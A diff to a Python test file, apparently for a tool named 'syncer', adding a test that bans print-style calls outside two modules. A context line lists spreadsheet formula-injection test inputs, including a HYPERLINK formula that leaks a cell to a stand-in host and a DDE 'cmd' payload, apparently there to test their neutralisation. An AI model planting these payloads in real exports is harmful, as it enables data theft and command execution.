@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import ast
 import csv
 import io
 import json
@@ -94,6 +95,16 @@ def test_the_log_shows_it_escaped(form: logging.Formatter) -> None:
     except ValueError:
         record.exc_info = sys.exc_info()
     assert not steers(form.format(record))
+
+
+def test_nobody_prints_by_another_way() -> None:
+    """The sandbox prints its own config, which is for a file."""
+    for file in (ROOT / "syncer").rglob("*.py"):
+        if file.name in ("report.py", "sandbox.py"):
+            continue
+        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
+            if isinstance(node, ast.Call):
+                assert ast.unparse(node.func) not in ("print", "click.echo", "sys.stdout.write")
 
 
 FORMULAS = ('=HYPERLINK("http://x/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1-1")
